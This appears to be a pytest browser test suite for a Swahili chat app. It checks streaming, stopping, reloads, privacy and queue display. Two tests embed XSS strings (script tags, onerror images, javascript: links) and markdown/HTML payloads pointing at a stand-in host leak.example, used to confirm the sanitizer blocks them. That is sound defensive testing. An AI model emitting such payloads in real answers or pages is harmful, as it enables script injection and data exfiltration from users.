"""The chat in a real browser: streaming, stop, reload mid-answer, privacy of conversations."""

import time
from urllib.parse import urlparse

import pytest

from pawa.chat.models import Conversation, Message

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def conversation(owner, real_models):
    return Conversation.objects.create(user=owner, model_name="gemma3-270m", temperature=0, max_tokens=160,
                                       system_prompt="Wewe ni PAWA, msaidizi anayejibu kwa Kiswahili.")


def answer_text(page) -> str:
    return page.locator(".message.assistant .body").last.inner_text()


def wait_for(condition, timeout=60.0, interval=0.05):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(interval)
    raise AssertionError("condition not met in time")


def test_a_swahili_message_streams_in_several_steps(page, login, owner, conversation, celery_worker):
    conversation.model_name = "smollm2-135m-instruct"  # writes at length; the base model's framing is terse
    conversation.save()
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    page.get_by_label("Ujumbe").fill("Niandikie hadithi kuhusu Mlima Kilimanjaro.")
    page.keyboard.press("Enter")
    seen = set()
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        text = answer_text(page) if page.locator(".message.assistant").count() else ""
        if text:
            seen.add(text)
        if page.locator(".message.assistant.streaming").count() == 0 and text:
            break
        time.sleep(0.03)
    saved = Message.objects.get(conversation=conversation, role="assistant")
    assert saved.status == "complete" and saved.content
    assert len(seen) >= 3  # the answer grew in several visible steps
    assert answer_text(page).strip() == page.locator(".message.assistant .body").last.inner_text().strip()
    assert page.locator("[data-announcer]").inner_text() == "Jibu limekamilika."
    assert page.locator(".message.user .body").first.inner_text() == "Niandikie hadithi kuhusu Mlima Kilimanjaro."
    outside = [url for url in page.requested_urls if urlparse(url).hostname != "127.0.0.1"]
    assert outside == []


def test_stop_ends_the_answer_and_keeps_it(page, login, owner, conversation, celery_worker):
    # The instruction-tuned model writes at length; the base model's framing asks for short answers.
    conversation.model_name = "smollm2-135m-instruct"
    conversation.max_tokens = 400
    conversation.save()
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    page.get_by_label("Ujumbe").fill("Write a very long story about a lion and a mouse, in many chapters.")
    page.get_by_role("button", name="Tuma").click()
    wait_for(lambda: len(answer_text(page)) > 10 if page.locator(".message.assistant").count() else False)
    page.get_by_role("button", name="Simamisha").click()
    wait_for(lambda: page.locator(".message.assistant.streaming").count() == 0, timeout=15)
    assert page.locator(".message.assistant .note").last.inner_text() == "Limesimamishwa"
    saved = wait_for(lambda: Message.objects.filter(conversation=conversation, role="assistant", status="stopped").first())
    assert saved.generation.completion_tokens < 400
    page.reload()
    assert answer_text(page).strip()[:20] == saved.content.strip()[:20]


def test_reload_mid_answer_continues_to_the_saved_text(page, login, owner, conversation, celery_worker):
    conversation.model_name = "smollm2-135m-instruct"  # writes at length (see the stop test)
    conversation.save()
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    page.get_by_label("Ujumbe").fill("Write a long story about a lion and a mouse.")
    page.keyboard.press("Enter")
    wait_for(lambda: len(answer_text(page)) > 5 if page.locator(".message.assistant").count() else False)
    page.reload()
    wait_for(lambda: page.locator(".message.assistant.streaming").count() == 0 and answer_text(page), timeout=90)
    saved = wait_for(lambda: Message.objects.filter(conversation=conversation, role="assistant", status="complete").first())
    page.reload()  # the rendered history must match too
    rendered = " ".join(answer_text(page).split())
    assert rendered and rendered[:40] == " ".join(saved.content.split())[:40]


def test_another_user_cannot_open_the_conversation(page, login, outsider, conversation):
    login(page, outsider)
    response = page.goto(f"/chat/{conversation.id}/")
    assert response.status == 404
    assert "Ukurasa haukupatikana" in page.content()


def test_the_chat_works_on_a_phone_screen(page, login, owner, conversation):
    page.set_viewport_size({"width": 390, "height": 800})
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    assert page.get_by_label("Ujumbe").is_visible()
    assert page.get_by_role("button", name="Tuma").is_visible()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement !== document.body")


def test_a_second_tab_sees_the_answer_stream(page, login, owner, conversation, celery_worker):
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    other = page.context.new_page()
    other.goto(f"/chat/{conversation.id}/")
    other.wait_for_timeout(500)  # let its websocket connect and watch the conversation
    page.get_by_label("Ujumbe").fill("Habari za asubuhi?")
    page.keyboard.press("Enter")
    wait_for(lambda: other.locator(".message.assistant").count() == 1, timeout=30)
    wait_for(lambda: page.locator(".message.assistant.streaming").count() == 0 and answer_text(page), timeout=90)
    wait_for(lambda: other.locator(".message.assistant.streaming").count() == 0, timeout=30)
    assert answer_text(other) == answer_text(page)
    assert other.locator(".message.user .body").first.inner_text() == "Habari za asubuhi?"


def test_markdown_renders_safely_with_copy_buttons(page, login, owner, conversation):
    evil = "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>"
    Message.objects.create(conversation=conversation, role="user", content=f"Hi {evil}")
    Message.objects.create(
        conversation=conversation, role="assistant", status="complete",
        content=f"**Jibu** na orodha:\n\n- moja\n- mbili\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('habari')\n```\n\n"
                f"{evil} [link](javascript:alert(1))",
    )
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    answer = page.locator(".message.assistant .body").last
    assert answer.locator("strong").inner_text() == "Jibu"
    assert answer.locator("li").count() == 2 and answer.locator("table td").count() == 2
    assert answer.locator("pre code").inner_text().strip() == "print('habari')"
    assert answer.locator("button.copy-code").count() == 1
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert page.locator(".message script, .message img[onerror]").count() == 0
    assert "javascript:" not in (answer.locator("a").first.get_attribute("href") or "")
    assert evil in page.locator(".message.user .body").first.inner_text()  # user text shown as text


@pytest.mark.parametrize("payload,check", [
    ("![x](http://leak.example/pixel.png?q=siri) and <img src=\"https://leak.example/a.png\">", "image"),
    ("<style>body{display:none}</style> and <div style=\"position:fixed;inset:0;background:red\">x</div>", "style"),
    ("<form action=\"http://leak.example/steal\"><input name=q value=siri><button>Tuma</button></form>", "form"),
    ("<iframe src=\"http://leak.example/\"></iframe><video src=\"http://leak.example/v.mp4\"></video>", "frame"),
])
def test_an_answer_cannot_load_remote_content_restyle_the_page_or_post_a_form(
    page, login, owner, conversation, payload, check
):
    Message.objects.create(conversation=conversation, role="user", content="Habari")
    Message.objects.create(conversation=conversation, role="assistant", status="complete",
                           content=f"Jibu: {payload}")
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    answer = page.locator(".message.assistant .body").last
    assert "Jibu" in answer.inner_text()
    page.wait_for_timeout(300)
    assert answer.locator("style, form, input, button:not(.copy-code), iframe, video, [style]").count() == 0
    assert answer.locator("img").count() == 0
    assert page.locator("body").is_visible() and page.get_by_label("Ujumbe").is_visible()
    outside = [url for url in page.requested_urls if urlparse(url).hostname not in ("127.0.0.1",)]
    assert outside == [], check


def test_a_long_conversation_says_on_the_answer_that_earlier_messages_were_left_out(page, login, owner,
                                                                                     conversation):
    Message.objects.create(conversation=conversation, role="user", content="Swali la mwisho?")
    Message.objects.create(conversation=conversation, role="assistant", status="complete", content="Jibu.",
                           dropped_messages=40)
    Message.objects.create(conversation=conversation, role="user", content="Na hili?")
    Message.objects.create(conversation=conversation, role="assistant", status="complete", content="Sawa.")
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    notes = page.locator(".message.assistant .trim-note")
    assert notes.count() == 1  # only on the answer that was written without them
    assert notes.first.inner_text().startswith("Jumbe za awali ziliachwa")
    assert page.locator(".message.assistant").first.locator(".trim-note").count() == 1


def test_a_waiting_answer_shows_its_place_in_the_queue_and_the_expected_wait(page, login, owner, conversation,
                                                                             idle_worker):
    from pawa.generation.models import Generation

    Generation.objects.create(user=owner, model_name="gemma3-270m", prompt=[], status="complete", total_ms=9000)
    login(page, owner)
    page.goto(f"/chat/{conversation.id}/")
    page.get_by_label("Ujumbe").fill("Habari?")
    page.keyboard.press("Enter")
    status = page.locator("[data-chat-status]")
    wait_for(lambda: "foleni" in status.inner_text(), timeout=15)
    assert status.inner_text() == "Nafasi kwenye foleni: 1 (~9 s)"
    page.get_by_role("button", name="Simamisha").click()
    wait_for(lambda: page.locator(".message.assistant.streaming").count() == 0, timeout=15)
